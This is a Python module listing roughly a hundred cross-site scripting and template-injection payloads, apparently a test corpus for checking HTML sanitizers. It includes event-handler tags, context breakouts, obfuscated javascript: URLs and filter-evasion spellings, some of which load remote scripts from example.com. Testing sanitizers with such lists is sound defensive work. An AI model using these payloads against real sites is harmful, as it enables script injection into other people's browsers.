"""Texts that would run in a browser if a page wrote them as they are: a hundred, for each place in HTML."""

from __future__ import annotations

TAGS = ("svg", "img", "body", "video", "iframe", "details", "input", "marquee", "object", "math")
EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin")
OPENINGS = ("", '"', "'", '">', "'>", "-->", "</title>", "</script>", "</textarea>", "]]>", "</time>", "</bdi>")

_ELEMENTS = [f"<{tag} {EVENTS[number % len(EVENTS)]}=alert({number})>" for number, tag in enumerate(TAGS)]
_IN_PLACES = [f"{opening}<script>alert({number})</script>" for number, opening in enumerate(OPENINGS)]
_ATTRIBUTES = [f"x{quote} {event}={quote}alert(1){quote} autofocus {quote}" for quote in ("", '"', "'", "`") for event in EVENTS]
_ADDRESSES = [
    f"{scheme}{rest}"
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,", "vbscript:", "  javascript:")
    for rest in ("alert(1)", "//example.com/%0aalert(1)", "<script>alert(1)</script>")
]
_TEMPLATES = ["{{ 7*7 }}", "{% raw %}", "${7*7}", "{{ config }}", "#{7*7}", "<%= 7*7 %>", "{# x #}", "{{ ''.__class__ }}"]
_SPELLINGS = [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//example.com/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u003cscript\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//example.com/>",
    "<link rel=stylesheet href=//example.com/x.css>",
    "<style>@import '//example.com/x.css'</style>",
    "<img src=//example.com/pixel.png>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='data:text/html,x'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<mark><img src=x onerror=alert(1)></mark>",
    "\x02<img src=x onerror=alert(1)>\x03",
    "[x](javascript:alert(1))",
    "![x](//example.com/x.png)",
    "<!--<script>alert(1)//-->",
    "\u202e<script>alert(1)</script>",
]

PAYLOADS = (*_ELEMENTS, *_IN_PLACES, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_SPELLINGS)
